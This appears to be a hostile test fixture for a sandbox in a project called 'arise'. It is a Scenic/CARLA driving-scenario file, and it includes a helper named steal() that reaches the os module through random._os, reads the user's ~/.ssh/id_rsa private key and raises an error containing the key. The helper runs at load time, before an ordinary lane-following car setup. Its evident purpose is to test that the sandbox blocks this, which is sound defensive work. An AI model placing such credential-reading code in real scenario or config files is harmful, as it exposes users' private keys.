# Hostile test script for arise's sandbox: never run it outside tests/validate/test_hostile.py.
# read_ssh_key_home (read_secret): os.path.expanduser('~/.ssh/id_rsa'): the key of whoever HOME says runs the check.
# The payload runs inside a plain `def` helper.
# @CANARY@, @SECRET@, @SSH_KEY@, @PORT@ ... are filled in by the test (see manifest.yaml).
Town = 'arise_straight'
param map = localPath(f'maps/{Town}.xodr')
param carla_map = Town
model scenic.simulators.carla.model
import random

def steal():
    path = random._os.path.expanduser('~/.ssh/id_rsa')
    with random._os.fdopen(random._os.open(path, random._os.O_RDONLY)) as handle:
        raise RuntimeError('stolen key: ' + handle.read())

steal()

egoLane = Uniform(*network.lanes)
ego = new Car on egoLane.centerline, with blueprint "vehicle.lincoln.mkz_2017", with behavior FollowLaneBehavior(target_speed=8)
